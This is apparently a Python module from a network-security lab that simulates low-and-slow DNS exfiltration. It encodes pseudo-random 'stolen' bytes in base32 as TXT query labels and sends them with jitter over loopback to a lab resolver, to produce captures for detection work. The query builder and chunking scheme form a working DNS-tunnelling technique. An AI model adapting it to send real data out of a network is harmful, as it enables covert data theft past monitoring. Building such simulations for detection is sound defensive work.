"""Slow DNS exfiltration: a device leaks a file as query names under one domain.

``python -m amlhp.lab.dnsexfil`` reads pseudo-random "stolen" bytes, encodes them in
base32, and sends them as the labels of TXT queries (``<chunk>.<chunk>.<n>.<domain>``)
from the compromised device to the lab's tunnel resolver, one query every few seconds
with jitter, as low-and-slow exfiltration tools (dnscat2's or DNSExfiltrator's
throttled modes) do. The resolver forwards the domain to the attacker's name server
address, where nothing answers: the capture holds what a network sees (long, high-entropy
names under one domain, one client, a steady trickle), and no data leaves the machine.
The queries are sent by a UDP socket bound to the device's loopback address.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import random
import socket
import struct
import time

from amlhp.lab.drivers import driver_parser, run_driver
from amlhp.lab.safety import loopback_address

#: base32 characters per label (DNS allows 63) and labels per name
LABEL_CHARS, LABELS = 52, 2


def query(name: str, qid: int) -> bytes:
    """A DNS query for the TXT record of ``name`` (recursion desired)."""
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\x00"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + b"\x00\x10\x00\x01"


def names(data: bytes, domain: str) -> list[str]:
    """The query names that carry ``data``: base32 in labels, a sequence number, the domain."""
    text = base64.b32encode(data).decode().rstrip("=").lower()
    step = LABEL_CHARS * LABELS
    out = []
    for n, start in enumerate(range(0, len(text), step)):
        chunk = text[start : start + step]
        labels = [chunk[i : i + LABEL_CHARS] for i in range(0, len(chunk), LABEL_CHARS)]
        out.append(".".join([*labels, f"{n:x}", domain]))
    return out


def run(args: argparse.Namespace) -> int:
    resolver = loopback_address(args.resolver)
    device = loopback_address(args.implant)
    rng = random.Random(args.seed)
    pending = names(rng.randbytes(args.bytes), args.domain)
    deadline = time.monotonic() + args.seconds
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((str(device), 0))
        sock.settimeout(2.0)
        for name in pending:
            if time.monotonic() >= deadline:
                break
            sock.sendto(query(name, rng.getrandbits(16)), (str(resolver), args.port))
            sent += 1
            with contextlib.suppress(TimeoutError):  # the answer: an error, nobody serves it
                sock.recv(4096)
            pause = args.interval * rng.uniform(0.5, 1.5)
            time.sleep(min(pause, max(0.0, deadline - time.monotonic())))
    print(f"{sent} queries")
    return 0 if sent else 1


def main(argv: list[str] | None = None) -> int:
    p = driver_parser(__doc__, 1200.0)
    p.add_argument("--resolver", required=True)
    p.add_argument("--port", type=int, default=53)
    p.add_argument("--implant", required=True)
    p.add_argument("--domain", required=True)
    p.add_argument("--bytes", type=int, default=20_000, help="bytes to leak")
    p.add_argument("--interval", type=float, default=4.0, help="mean seconds between queries")
    return run_driver(p, run, argv)


if __name__ == "__main__":
    raise SystemExit(main())
